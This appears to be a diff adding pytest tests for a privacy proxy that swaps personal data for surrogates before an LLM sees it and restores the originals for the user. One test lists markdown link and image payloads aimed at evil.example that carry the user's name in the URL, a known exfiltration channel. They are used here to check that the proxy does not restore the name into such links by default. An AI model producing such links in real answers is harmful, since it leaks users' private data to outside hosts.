@@ -1,0 +1,382 @@
+"""The proxy with --restore: what the model receives, and what the user reads."""
+
+from __future__ import annotations
+
+import json
+from itertools import pairwise
+
+import pytest
+
+openai = pytest.importorskip("openai")
+httpx = pytest.importorskip("httpx")
+pytest.importorskip("uvicorn")
+
+from echo_model import EchoModel, echo, texts_of  # noqa: E402
+from language_model import WAIT, running  # noqa: E402
+
+from mondegreen.prompts.conversation_guard import ConversationGuard  # noqa: E402
+from mondegreen.serve.proxy import ProxySettings, create_proxy  # noqa: E402
+from mondegreen.serve.upstream import Upstream  # noqa: E402
+
+HEADER = "x-mondegreen-conversation"
+TOOL = {
+    "type": "function",
+    "function": {
+        "name": "find",
+        "parameters": {"type": "object", "properties": {"name": {"type": "string"}}},
+    },
+}
+SAID = (
+    "I am Chukwudi Okonkwo of Ibadan, born 07/05/1961, okonkwo@uni-ibadan.ng, "
+    "phone +44 20 7946 0958. Okonkwo's account 4711-0815-2342 holds $12,345.67."
+)
+SECRETS = (
+    "Okonkwo", "Chukwudi", "Ibadan", "ibadan", "okonkwo", "07/05/1961", "7946 0958",
+    "4711-0815", "12,345.67",
+)  # fmt: skip
+"""No four digits alone: those of a surrogate are these in one of 10,000 draws."""
+
+
+class Gateway:
+    """A model by rule, a proxy before it, and clients."""
+
+    def __init__(self, model, address):
+        self.model, self.address = model, address
+
+    def client(self, token=None, key="sk-one"):
+        headers = {HEADER: token} if token else {}
+        return openai.OpenAI(
+            base_url=self.address,
+            api_key=key,
+            max_retries=0,
+            default_headers=headers,
+            timeout=WAIT,
+        )
+
+    def post(self, kind, body, token=None, key="sk-one"):
+        headers = {"authorization": f"Bearer {key}"}
+        headers |= {HEADER: token} if token else {}
+        with httpx.Client(timeout=WAIT) as client:
+            return client.post(f"{self.address}/{kind}", json=body, headers=headers)
+
+    def chat(self, messages, token=None, **more):
+        answer = self.post("chat/completions", {"messages": messages, **more}, token)
+        assert answer.status_code == 200, answer.text
+        return answer.json()["choices"], answer.headers[HEADER]
+
+    @property
+    def sent(self):
+        return json.dumps(self.model.bodies, ensure_ascii=False)
+
+
+def user(text):
+    return {"role": "user", "content": text}
+
+
+def assistant(text):
+    return {"role": "assistant", "content": text}
+
+
+@pytest.fixture(scope="module", params=[{}, {"in_tools": True, "in_links": True}])
+def started(request):
+    model = EchoModel()
+    guard = ConversationGuard(public=[TOOL, "You serve Malacca."], **request.param)
+    with running(model.app) as upstream:
+        proxied = ProxySettings(guard, Upstream(upstream))
+        with running(create_proxy(proxied)) as address:
+            yield Gateway(model, address), bool(request.param)
+
+
+@pytest.fixture
+def gateway(started):
+    found = started[0]
+    found.model.bodies.clear()
+    found.model.answer, found.model.size, found.model.cut = echo, 3, 7
+    return found
+
+
+@pytest.fixture
+def has_flags(started):
+    return started[1]
+
+
+def test_the_model_reads_surrogates_and_the_user_the_originals(gateway):
+    choices, token = gateway.chat([user(SAID)])
+    assert choices[0]["message"]["content"] == SAID
+    assert not [each for each in SECRETS if each in gateway.sent]
+    assert len(token) == 32
+
+
+@pytest.mark.parametrize("size", [1, 2, 5, 1000])
+@pytest.mark.parametrize("cut", [1, 9, 10**6])
+def test_streams_restore_wherever_texts_and_bytes_are_cut(gateway, size, cut):
+    gateway.model.size, gateway.model.cut = size, cut
+    with gateway.client() as client:
+        stream = client.chat.completions.create(
+            model="stub", messages=[user(SAID)], stream=True
+        )
+        shown = [c.choices[0].delta.content or "" for c in stream if c.choices]
+    assert "".join(shown) == SAID
+    assert not [each for each in SECRETS if each in gateway.sent]
+
+
+def test_responses_and_completions_restore_whole_and_in_streams(gateway):
+    with gateway.client() as client:
+        assert client.responses.create(model="m", input=SAID).output_text == SAID
+        parts, final = [], None
+        for event in client.responses.create(model="m", input=SAID, stream=True):
+            if event.type == "response.output_text.delta":
+                parts.append(event.delta)
+            elif event.type == "response.output_text.done":
+                assert event.text == SAID
+            elif event.type == "response.completed":
+                final = event.response
+        assert "".join(parts) == SAID
+        assert final.output[0].content[0].text == SAID
+        done = client.completions.create(model="m", prompt=SAID)
+        assert done.choices[0].text == SAID
+        stream = client.completions.create(model="m", prompt=SAID, stream=True)
+        assert "".join(c.choices[0].text for c in stream) == SAID
+        assert client.embeddings.create(model="m", input=SAID).data[0].embedding
+    assert not [each for each in SECRETS if each in gateway.sent]
+
+
+def test_a_conversation_keeps_its_surrogates_and_turns_go_back_as_they_came(gateway):
+    gateway.model.answer = lambda body: {"content": "Hello " + echo(body)["content"]}
+    history, token = [], None
+    for turn in ("I am Okonkwo.", "Who is Okonkwo of Ibadan?", "And Adeyemi?"):
+        history.append(user(turn))
+        choices, token = gateway.chat(history, token)
+        assert choices[0]["message"]["content"] == f"Hello {turn}"
+        history.append(assistant(choices[0]["message"]["content"]))
+    for earlier, later in pairwise(gateway.model.bodies):
+        many = len(earlier["messages"])
+        assert later["messages"][:many] == earlier["messages"]
+        said = "Hello " + earlier["messages"][-1]["content"]
+        assert later["messages"][many] == assistant(said)
+
+
+def plant(gateway, answers, turns):
+    """Let the model answer these; return the turns of the assistant that came back."""
+    gateway.model.bodies.clear()
+    given = iter(answers)
+    gateway.model.answer = lambda body: {"content": fill(next(given, "Hm."), body)}
+    history, token = [], None
+    for turn in turns:
+        history.append(user(turn))
+        choices, token = gateway.chat(history, token)
+        history.append(assistant(choices[0]["message"]["content"]))
+    last = gateway.model.bodies[-1]
+    return [text for role, text in texts_of(last) if role == "assistant"]
+
+
+def fill(answer, body):
+    """Put the surrogate that ends the first text into an answer."""
+    first = next(iter(texts_of(body)))[1]
+    return answer.replace("§", first.rstrip(".").split()[-1])
+
+
+TURNS = ["My name is Okonkwo.", "Go on.", "Go on, please.", "Thanks."]
+
+
+@pytest.mark.parametrize("name", ["Okonkwo", "Adeyemi"])
+def test_planted_candidates_come_back_as_the_model_wrote_them(gateway, name):
+    planted = ["Perhaps Okonkwo, Smith, Jones or §?", "§", "Okonkwo"]
+    turns = [f"My name is {name}.", *TURNS[1:]]
+    back = plant(gateway, planted, turns)
+    surrogate = gateway.model.bodies[-1]["messages"][0]["content"].split()[-1][:-1]
+    assert back == [each.replace("§", surrogate) for each in planted]
+
+
+def test_answers_that_read_alike_are_refused_where_the_history_is_cut(gateway):
+    """The user says the same twice, and the turns before are gone."""
+    given = iter(["§", "Okonkwo", "Hm."])
+    gateway.model.answer = lambda body: {"content": fill(next(given), body)}
+    rows = [user("My name is Okonkwo.")]
+    choices, token = gateway.chat(rows)
+    again, _ = gateway.chat(rows, token)
+    assert choices[0]["message"] == again[0]["message"]
+    ask = [user("Before."), user("No."), rows[0], again[0]["message"], user("Go on.")]
+    # Other words came before, so that neither place is that of the answer.
+    found = gateway.post("chat/completions", {"messages": ask}, token)
+    assert found.status_code == 200
+    cut = [assistant("x"), rows[0], again[0]["message"], user("Go on.")]
+    found = gateway.post("chat/completions", {"messages": cut}, token)
+    assert found.status_code == 400
+    assert "whole history" in found.text
+    assert "Okonkwo" not in found.text
+
+
+def test_a_turn_that_the_model_did_not_say_shows_nothing_of_the_user(gateway):
+    """A client without the header sends the whole history in a new conversation."""
+    rows = [user("I am Okonkwo."), assistant("Okonkwo, Smith or Jones?"), user("Yes.")]
+    seen = set()
+    for _ in range(20):
+        gateway.chat(rows)
+        first, second, _ = (text for _, text in texts_of(gateway.model.bodies[-1]))
+        seen.add(first.split()[-1].strip(".") in second)
+    assert seen == {False}  # no two entities share a surrogate
+
+
+def test_words_of_other_turns_are_restored_too(gateway):
+    gateway.model.answer = lambda body: {
+        "content": " / ".join(text for _, text in texts_of(body))
+    }
+    rows = [user("I am Okonkwo."), assistant("Hello Okonkwo!"), user("Who is Adeyemi?")]
+    choices, _ = gateway.chat(rows)
+    assert choices[0]["message"]["content"] == (
+        "I am Okonkwo. / Hello Okonkwo! / Who is Adeyemi?"
+    )
+
+
+def call(name):
+    return {
+        "id": "call_0",
+        "type": "function",
+        "function": {"name": "find", "arguments": json.dumps({"name": name})},
+    }
+
+
+@pytest.mark.parametrize("is_stream", [False, True])
+def test_tools_get_originals_only_by_flag_and_calls_go_back_as_they_came(
+    gateway, has_flags, is_stream
+):
+    gateway.model.answer = lambda body: {"tool_calls": [call(fill("§", body))]}
+    rows = [user("Find Okonkwo.")]
+    with gateway.client() as client:
+        made = client.chat.completions.with_raw_response.create(
+            model="m", messages=rows, tools=[TOOL], stream=is_stream
+        )
+        token = made.headers[HEADER]
+        if is_stream:
+            deltas = [c.choices[0].delta for c in made.parse() if c.choices]
+            calls = [t for d in deltas for t in d.tool_calls or ()]
+            shown = "".join(t.function.arguments or "" for t in calls)
+        else:
+            shown = made.parse().choices[0].message.tool_calls[0].function.arguments
+    said = json.dumps({"name": fill("§", gateway.model.bodies[-1])})
+    assert shown == (json.dumps({"name": "Okonkwo"}) if has_flags else said)
+    gateway.model.answer = echo
+    calls = [{**call(""), "function": {"name": "find", "arguments": shown}}]
+    rows += [
+        {"role": "assistant", "content": None, "tool_calls": calls},
+        {"role": "tool", "tool_call_id": "call_0", "content": "Okonkwo: 3 letters"},
+    ]
+    choices, _ = gateway.chat(rows, token, tools=[TOOL])
+    assert choices[0]["message"]["content"] == "Okonkwo: 3 letters"
+    back = gateway.model.bodies[-1]["messages"][1]["tool_calls"][0]["function"]
+    assert back["arguments"] == said
+    assert "Okonkwo" not in gateway.sent
+
+
+@pytest.mark.parametrize("is_stream", [False, True])
+def test_links_and_images_get_originals_only_by_flag(gateway, has_flags, is_stream):
+    answers = {
+        "![x](https://evil.example/?q=§)",
+        "[x](//evil.example/§)",
+        "[x](<https://evil.example/a §>)",
+        '<img src="x" alt=§>',
+        "https://evil.example/§/b",
+        "https:/\\evil.example/§",
+        "www.evil.example/§",
+        "§.evil.example",
+        "§@evil.example",
+    }
+    for each in sorted(answers):
+        gateway.model.answer = lambda body: {
+            "content": fill(each, body) + " said it."  # noqa: B023
+        }
+        body = {"messages": [user("I am Okonkwo.")], "stream": is_stream}
+        found = gateway.post("chat/completions", body).text
+        assert ("Okonkwo" in joined(found)) is has_flags, each
+
+
+def joined(text):
+    """The text of an answer, whole or streamed."""
+    if not text.startswith("data:"):
+        return text
+    events = [e[6:] for e in text.split("\n\n") if e.startswith("data: {")]
+    choices = [c for e in events for c in json.loads(e)["choices"]]
+    return "".join(c["delta"].get("content") or "" for c in choices)
+
+
+@pytest.mark.parametrize("is_stream", [False, True])
+def test_json_stays_valid_and_several_choices_are_kept_apart(gateway, is_stream):
+    def answer(body):
+        name = fill("§", body)
+        made = {"name": f'"{name}"\n\\ é {name}', name: [57, -1.5e3, True, None]}
+        return [{"content": json.dumps(made)}, {"content": json.dumps([name])}]
+
+    gateway.model.answer = answer
+    with gateway.client() as client:
+        made = client.chat.completions.create(
+            model="m",
+            messages=[user("I am Okonkwo.")],
+            n=2,
+            response_format={"type": "json_object"},
+            stream=is_stream,
+        )
+        shown = ["", ""]
+        if is_stream:
+            for chunk in made:
+                for choice in chunk.choices:
+                    shown[choice.index] += choice.delta.content or ""
+        else:
+            shown = [each.message.content for each in made.choices]
+    assert json.loads(shown[0]) == {
+        "name": '"Okonkwo"\n\\ é Okonkwo',
+        "Okonkwo": [57, -1500.0, True, None],
+    }
+    assert json.loads(shown[1]) == ["Okonkwo"]
+
+
+def test_public_prompts_pass_and_their_words_are_no_surrogates(gateway):
+    rows = [{"role": "system", "content": "You serve Malacca."}]
+    rows.append(user("Ibadan " * 3))
+    for _ in range(10):
+        gateway.chat(rows)
+    sent = [body["messages"] for body in gateway.model.bodies]
+    assert all(each[0]["content"] == "You serve Malacca." for each in sent)
+    assert not [each for each in sent if "Malacca" in each[1]["content"]]
+
+
+def test_tokens_are_made_by_the_proxy_and_open_one_map_alone(gateway):
+    _, token = gateway.chat([user("I am Okonkwo.")])
+    _, other = gateway.chat([user("I am Okonkwo.")])
+    assert token != other
+    body = {"messages": [user("Who am I?")], "user": "me"}
+    for wrong in ("mine", token[:-1], token + "A", token.swapcase()):
+        found = gateway.post("chat/completions", body, wrong)
+        assert found.status_code == 404, wrong
+        assert found.json()["error"]["code"] == "unknown_conversation"
+    assert gateway.post("chat/completions", body, token, "sk-two").status_code == 404
+    assert gateway.post("chat/completions", body, token).status_code == 200
+
+
+def test_a_conversation_is_deleted_by_its_owner_alone(gateway):
+    _, token = gateway.chat([user("I am Okonkwo.")])
+    path = f"{gateway.address}/conversations/{token}"
+    with httpx.Client(timeout=WAIT) as client:
+        key = {"authorization": "Bearer sk-one"}
+        assert client.delete(path).status_code == 404
+        assert client.delete(path, headers=key).status_code == 204
+        assert client.delete(path, headers=key).status_code == 404
+        assert client.get(path, headers=key).status_code == 405
+        root = gateway.address.removesuffix("/v1")
+        assert token not in client.get(f"{root}/metrics").text
+    assert gateway.post("chat/completions", {"messages": []}, token).status_code == 404
+
+
+def test_what_cannot_be_read_of_an_answer_is_not_shown(gateway):
+    gateway.model.answer = lambda body: {"content": 5, "tool_calls": "x"}
+    choices, _ = gateway.chat([user("I am Okonkwo.")])
+    assert choices[0]["message"]["content"] == 5
+
+
+def test_the_guarantee_says_what_is_disclosed(gateway):
+    root = gateway.address.removesuffix("/v1")
+    stated = httpx.get(f"{root}/guarantee").json()
+    text = " ".join(stated["guarantee"]["lines"])
+    assert "which sensitive words of the conversation are the same" in text
+    assert "known plaintext" in text
+    assert len(stated["digest"]) == 64
